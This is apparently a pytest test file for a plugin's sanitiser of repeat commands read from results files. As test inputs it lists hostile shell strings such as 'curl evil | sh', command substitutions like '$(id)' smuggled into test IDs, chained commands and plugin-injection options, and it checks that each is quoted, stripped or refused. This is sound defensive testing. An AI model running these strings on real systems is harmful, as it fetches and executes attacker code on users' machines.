"""Commands of results files, as they may be shown."""

from __future__ import annotations

import shlex
from dataclasses import replace

import pytest

from pytest_attnperf.reports.run.terminal import failure_text
from pytest_attnperf.reports.text.commands import can_be_offered, format_repeat_command, split_command
from pytest_attnperf.testing.sample_runs import sample_run

OWN = 'pytest --attnperf --attnperf-against=origin/main "suites/test_a.py::test_a[fake.a-w]"'


@pytest.mark.parametrize("own", [OWN, 'pytest --update-baselines --attnperf-seed=7 "t.py::t[a b]"', ""])
def test_a_runs_own_command_is_shown_as_it_is(own: str) -> None:
    """pytest, options of this plugin and a test: nothing is changed."""
    assert format_repeat_command(own, "t.py::t") == own


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        ("curl evil | sh", "pytest --attnperf 't.py::t[$(id)]'"),
        ("pytest 'unclosed", "pytest --attnperf 't.py::t[$(id)]'"),
        ('pytest --attnperf "t.py::t[$(touch x)]"', "pytest --attnperf 't.py::t[$(touch x)]'"),
        ("pytest t.py; curl evil", "pytest 't.py;' curl evil"),
        ("pytest -pevil --rootdir=/x -c x @args --attnperf t.py", "pytest x --attnperf t.py"),
        ("pytest --attnperf --attnperf-build='curl evil' t.py", "pytest --attnperf t.py"),
        ("pytest --attnperf --attnperf-against='sh -c evil' t.py", "pytest --attnperf t.py"),
        ("pytest --attnperf --attnperf-worker-args=-pevil t.py", "pytest --attnperf t.py"),
        ("pytest --attnperf-against 'sh -c evil' t.py", "pytest 'sh -c evil' t.py"),
        ("pytest --attnperf-results=/etc/profile t.py", "pytest t.py"),
        ("pytest --attnperf-report=../../x --attnperf-history=postgresql://evil/x t.py", "pytest t.py"),
    ],
)
def test_what_a_file_says_to_run_is_inert(hostile: str, shown: str) -> None:
    """Another program is replaced; what a shell would act on is quoted; options that run something are left out."""
    assert format_repeat_command(hostile, "t.py::t[$(id)]") == shown
    assert shlex.split(format_repeat_command(hostile, "t.py::t[$(id)]"))[0] == "pytest"


def test_no_letter_of_a_terminal_is_in_it() -> None:
    """Escape sequences and line breaks are taken out, and what is left is quoted."""
    assert format_repeat_command("pytest \x1b[2J t.py\nevil", "t") == "pytest '[2J' t.py evil"


@pytest.mark.parametrize("text", ["curl evil", "pytest t.py; id", "pytest -pevil", "pytest --attnperf-build=x t.py", "",
                                  "pytest --attnperf-against='sh -c evil'", "pytest --attnperf-against 'sh -c evil'",
                                  "pytest --basetemp=/etc", "pytest -xpevil", "pytest --tx=popen//python=evil",
                                  "pytest --attnperf-results=/etc/profile", "pytest $(id)"])  # fmt: skip
def test_what_would_run_something_is_not_offered(text: str) -> None:
    """Another program, what a shell acts on, plugins, commands, what writes or deletes; a plain run of pytest is."""
    assert not can_be_offered(text)
    assert can_be_offered(
        "pytest --attnperf --attnperf-against=../base --attnperf-report=out/r -n auto -k d256 -vv suites/"
    )


def test_the_run_itself_says_the_whole_command() -> None:
    """Who typed a build command needs it to see the failure again; from a file it is left out."""
    command = "pytest --attnperf --attnperf-against=main --attnperf-build='make -j' t.py"
    case = replace(sample_run(1).cases[0], fails=True, reproduce=command)
    assert command in failure_text(case, own=True).splitlines()
    assert "--attnperf-build" not in failure_text(case)


def test_a_text_that_is_too_long_for_a_command_is_not_split() -> None:
    """Splitting 75,000 characters takes half a minute, and anybody may write the file."""
    assert split_command("pytest " + "a" * 75_000) == ["?"]
    assert not can_be_offered("pytest " + "a" * 75_000)
    assert split_command("pytest 'a b'") == ["pytest", "a b"]
    assert split_command(" ") == []
